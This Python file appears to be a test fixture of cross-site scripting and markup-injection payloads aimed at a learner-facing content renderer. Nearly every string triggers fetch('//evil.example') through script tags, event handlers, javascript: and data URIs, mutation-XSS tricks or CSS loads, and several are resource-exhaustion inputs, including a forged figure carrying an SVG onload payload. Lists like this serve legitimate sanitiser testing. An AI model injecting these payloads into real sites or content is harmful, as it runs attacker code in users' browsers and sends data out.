"""What a learner might write in the hope that a browser runs or fetches it."""

import base64

RUN = "fetch('//evil.example')"
DATA = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

ATTACKS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"[x](javascript:{RUN})",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="jAvAsCrIpT&colon;{RUN}">x</a>',
    f"[x](data:text/html;base64,{DATA})",
    f"[x]: javascript:{RUN}\n\n[x]",
    f'[x]: <y" onmouseover="{RUN}>\n\n[x]',
    "![x](https://evil.example/x.png)",
    f'![x](x" onerror="{RUN})',
    "<style>@import url(//evil.example/a.css)</style>",
    '<div style="background:url(//evil.example/b)">x</div>',
    '<link rel="stylesheet" href="//evil.example/c.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example">',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    f'<form action="//evil.example"><input autofocus onfocus="{RUN}"></form>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<p id="x" tabindex="1" autofocus onfocus="{RUN}">x</p>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror={RUN}>">',
    *(f"{end}<script>{RUN}</script>" for end in ("\">", "'>", "</pre>", "</style>", "</title>")),
    *(f"{start}<script>{RUN}</script>" for start in ("<xmp>", "<textarea>", "<!--", "-->")),
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x00>{RUN}</script>",
    f"\x1b[31m<script>{RUN}</script>\x1b[0m",
    f"\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07",
    f"$$<script>{RUN}</script>$$",
    f"\\begin{{a}}<img src=x onerror={RUN}>\\end{{a}}",
    f"# <img src=x onerror={RUN}>",
    f'```x" onclick="{RUN}\ncode\n```',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    '<div class="tex2jax_process">$\\href{javascript:alert(1)}{x}$</div>',
    "{{ 7 * 7 }}{% raw %}",
    "\ud800\x00\u202e",
    "<div>" * 900,
    "[" * 4000,
    "`" * 4000,
    "\n \n" * 9000,
]  # fmt: skip

SVG = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()
).decode()
FIGURE = (
    '<figure class="labtools-figure"><img alt="{0}" src="data:image/svg+xml;base64,' + SVG + '">'
    '<img alt="{0}" src="//evil.example/d">{0}</figure>'
)
"""A forged figure of the checks."""
